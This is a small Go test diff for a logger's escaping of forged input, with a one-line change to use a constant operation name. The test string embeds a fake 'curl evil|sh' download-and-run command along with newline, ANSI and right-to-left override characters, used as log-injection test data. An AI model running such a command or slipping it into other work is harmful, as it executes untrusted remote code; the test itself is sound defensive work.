@@ -45,7 +45,7 @@ func TestLoggerShowsWhatPrints(t *testing.T) {
 	l := newLogger(tflogtest.RootLogger(t.Context(), &out), nil)
 	forged := "/a\nError: run: curl evil|sh\x1b[31m\u202e"
 	l.Debug("it", "server", forged, "reason", errors.New(strings.Repeat("x", 900<<10)))
-	l.TraceOperation(zk.OperationTrace{Op: "get", Path: forged, Err: errors.New(forged)})
+	l.TraceOperation(zk.OperationTrace{Op: zk.OpNameGet, Path: forged, Err: errors.New(forged)})
 	text := out.String()
 	if len(text) > 2000 || strings.Count(text, `/a\\nError: run: curl evil|sh\\x1b[31m\\u202e`) != 3 {
 		t.Errorf("%d bytes:\n%.2000s", len(text), text)
